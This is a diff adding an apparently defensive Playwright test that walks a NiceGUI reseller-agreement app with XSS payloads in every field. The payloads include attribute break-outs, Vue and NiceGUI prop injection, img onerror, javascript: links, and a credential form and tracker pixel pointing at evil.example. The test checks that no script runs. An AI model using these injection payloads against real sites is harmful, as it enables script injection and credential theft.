@@ -1,0 +1,193 @@
+"""Every page and dialog walked in real Chromium with hostile text in every field that can reach it: quotes that
+close an attribute, ``:``-props that NiceGUI would evaluate as JavaScript, ``<img onerror>``, backticks,
+``${}``, Vue's ``{{ }}``, raw HTML and ``javascript:`` links in agreement Markdown, and a hostile user agent in the
+signing evidence. No script may run: each payload would set ``window.__pwned`` or open an ``alert``."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from tests.e2e.conftest import Server
+from tests.e2e.distributor import close_link_dialog, sign_in, unique_email
+from tests.e2e.wizard import Wizard
+
+# Each payload tries another way out of a props string or into markup; each would set window.__pwned.
+BREAK_OUT = 'Evil" :data-x="window.__pwned=1" title="Acme'
+PROP = '" :title="window.__pwned=2" x="'
+TAG = "<img src=x onerror=window.__pwned=3>"
+TEMPLATE = "`${window.__pwned=4}` {{ window.__pwned=5 }}"
+CLOSE = "</script><script>window.__pwned=6</script>"
+
+
+def hostile(*extra: str) -> str:
+    return " ".join((BREAK_OUT, PROP, TAG, TEMPLATE, CLOSE, *extra))
+
+
+COMPANY = hostile("Inc")  # a legal name needs its entity type
+PERSON = hostile("Mallory")
+NOTE = hostile("\nSecond line")
+TITLE = hostile("Terms")
+DISTRIBUTOR = hostile("LLC")
+AGREEMENT = f"""# {TITLE}
+
+<script>window.__pwned=7</script>
+<img src="x" onerror="window.__pwned=8">
+<a href="javascript:window.__pwned=9">click</a> [click too](javascript:window.__pwned=10)
+<style>.q-stepper {{ display: none }}</style>
+<form action="https://evil.example"><input type="password" name="p"></form>
+![tracker](https://evil.example/pixel.png)
+[a real link](https://example.com/terms) {TEMPLATE}
+"""
+USER_AGENT = f"Mozilla/5.0 {hostile()}"
+
+
+@pytest.fixture(scope="module")
+def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    running = Server(tmp_path_factory.mktemp("hostile"))
+    running.start()
+    yield running
+    running.stop()
+
+
+class Watched:
+    """A browser context whose every page fails the test if a script of ours did not write ran."""
+
+    def __init__(self, browser: Browser, **options: object) -> None:
+        self.context: BrowserContext = browser.new_context(**options)  # type: ignore[arg-type]
+        self.alerts: list[str] = []
+        self.context.on("page", self._watch)
+
+    def _watch(self, page: Page) -> None:
+        page.on("dialog", lambda dialog: (self.alerts.append(dialog.message), dialog.dismiss()))
+
+    def page(self) -> Page:
+        return self.context.new_page()
+
+    def check(self, page: Page, where: str) -> None:
+        page.wait_for_load_state()
+        pwned = page.evaluate("window.__pwned")
+        assert pwned is None and self.alerts == [], f"script ran on {where}: {pwned!r} {self.alerts}"
+        assert page.locator(".nicegui-content img, .q-dialog img").count() == 0, f"an image on {where}"
+
+
+def test_no_script_runs_from_anyones_text_on_any_page_or_dialog(hostile_server: Server, browser: Browser) -> None:
+    server = hostile_server
+    desk_user = server.distributor_user(unique_email("hostile-desk"), distributor=DISTRIBUTOR)
+    desk = Watched(browser, user_agent=USER_AGENT)
+    page = desk.page()
+    sign_in(page, server.base_url, desk_user)
+    expect(page.get_by_role("heading", name="Invitations")).to_be_visible()
+    desk.check(page, "the invitations page")
+
+    # Agreements: create one with a hostile title and text, preview it, publish, view it, open the editor again.
+    page.get_by_role("link", name="Agreements").click()
+    page.get_by_role("button", name="Create agreement").click()
+    editor = page.get_by_role("dialog")
+    editor.get_by_label("Title").fill(TITLE)
+    editor.get_by_label("Agreement text (Markdown)").fill(AGREEMENT)
+    editor.get_by_role("tab", name="Preview").click()
+    preview = editor.locator(".agreement-text")
+    expect(preview.get_by_role("link", name="a real link")).to_have_attribute("rel", "noopener noreferrer")
+    expect(preview.get_by_text("<script>window.__pwned=7</script>")).to_be_visible()  # shown, not run
+    assert preview.locator("script, style, form, input, img, iframe").count() == 0
+    assert preview.locator("a[href^='javascript']").count() == 0
+    desk.check(page, "the agreement editor's preview")
+    editor.get_by_role("button", name="Publish").click()
+    expect(page.get_by_role("dialog")).to_have_count(0)
+    expect(page.get_by_role("heading", name=TITLE, exact=True)).to_be_visible()
+    desk.check(page, "the agreements page")
+    page.get_by_role("button", name=re.compile("^View version 1 of Evil")).click()
+    expect(page.get_by_role("dialog").get_by_role("link", name="a real link")).to_be_visible()
+    desk.check(page, "the agreement viewer")
+    page.get_by_role("dialog").get_by_role("button", name="Close").click()
+    page.get_by_role("button", name="Publish new version").first.click()
+    expect(page.get_by_role("dialog")).to_be_visible()
+    desk.check(page, "the publish dialog")
+    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
+
+    # Invitations: create with a hostile company and note on the hostile agreement, revoke dialog, details.
+    page.get_by_role("link", name="Invitations").click()
+    page.get_by_role("button", name="Create invitation").click()
+    dialog = page.get_by_role("dialog")
+    dialog.get_by_label("Company name (optional)").fill(COMPANY)
+    dialog.get_by_label("Note to signee (optional)").fill(NOTE)
+    dialog.get_by_label("Agreement version").click()
+    page.get_by_role("option", name=re.compile("^Evil")).click()
+    desk.check(page, "the create invitation dialog")
+    dialog.get_by_role("button", name="Create", exact=True).click()
+    link = page.get_by_role("dialog").get_by_label("Link")
+    expect(link).to_have_value(re.compile("/activate/"))
+    activation_url = link.input_value()
+    desk.check(page, "the new link dialog")
+    close_link_dialog(page)
+    row = page.locator("tr", has_text="Evil").first
+    row.get_by_role("button", name="Revoke").click()
+    expect(page.get_by_role("alertdialog")).to_have_attribute("aria-label", f"Revoke the invitation for {COMPANY}?")
+    desk.check(page, "the revoke dialog")
+    page.get_by_role("button", name="Cancel").click()
+    row.get_by_role("link", name="Details").click()
+    expect(page.get_by_text(COMPANY, exact=True)).to_be_visible()
+    desk.check(page, "the invitation details")
+
+    # Partners: create a reseller account with hostile names, open it, the remove dialog.
+    page.get_by_role("link", name="Partners").click()
+    page.get_by_role("button", name="Create reseller account").click()
+    dialog = page.get_by_role("dialog")
+    dialog.get_by_label("Company legal name").fill(COMPANY)
+    dialog.get_by_label("Representative's full name").fill(PERSON)
+    dialog.get_by_label("Representative's email").fill(unique_email("hostile-rep"))
+    dialog.get_by_role("button", name="Create", exact=True).click()
+    expect(page.get_by_role("dialog").get_by_label("Link")).to_have_value(re.compile("/set-password/"))
+    set_password_url = page.get_by_role("dialog").get_by_label("Link").input_value()
+    close_link_dialog(page)
+    page.get_by_role("link", name=COMPANY).first.click()
+    page.get_by_role("button", name="Remove reseller account").click()
+    expect(page.get_by_role("alertdialog")).to_have_attribute(
+        "aria-label", f"Remove the reseller account of {COMPANY}?"
+    )
+    desk.check(page, "the remove dialog")
+    page.get_by_role("button", name="Cancel").click()
+
+    # The reseller: every step with hostile text, from a browser with a hostile user agent.
+    reseller = Watched(browser, user_agent=USER_AGENT)
+    walk = reseller.page()
+    walk.goto(activation_url)
+    expect(walk.get_by_text(NOTE.split("\n", 1)[0], exact=False)).to_be_visible()
+    expect(walk.get_by_role("heading", name=f"{TITLE} (version 1)")).to_be_visible()
+    reseller.check(walk, "step 1 (note, agreement, distributor)")
+    wizard = Wizard(walk)
+    wizard.agree(unique_email("hostile-reseller"))
+    wizard.user_properties(full_name=PERSON)
+    wizard.company(COMPANY)
+    reseller.check(walk, "the review step")
+    wizard.sign_and_activate(COMPANY)
+    expect(walk.get_by_role("heading", name=COMPANY)).to_be_visible()
+    reseller.check(walk, "the portal")
+
+    # The representative's set-password page shows the hostile names and the hostile agreement.
+    representative = Watched(browser)
+    rep_page = representative.page()
+    rep_page.goto(set_password_url)
+    expect(rep_page.get_by_role("heading", name=f"Welcome, {PERSON}")).to_be_visible()
+    representative.check(rep_page, "the set-password page")
+
+    # Back at the desk: the activated partner, its evidence (hostile user agent), the terminate dialog.
+    page.get_by_role("link", name="Partners").click()
+    page.locator("tr", has_text="Active").get_by_role("link", name=COMPANY).click()
+    expect(page.get_by_text(USER_AGENT, exact=True)).to_be_visible()
+    desk.check(page, "the partner's evidence")
+    page.get_by_role("button", name="Terminate contract").click()
+    expect(page.get_by_role("alertdialog")).to_have_attribute("aria-label", f"Terminate the contract with {COMPANY}?")
+    desk.check(page, "the terminate dialog")
+    page.get_by_role("button", name="Terminate", exact=True).click()
+    expect(page.get_by_text("Terminated at")).to_be_visible()
+    desk.check(page, "the terminated partner")
+    walk.reload()
+    expect(walk.get_by_role("heading", name="Your service contract was terminated")).to_be_visible()
+    reseller.check(walk, "the portal after termination")
+    for watched in (desk, reseller, representative):
+        watched.context.close()
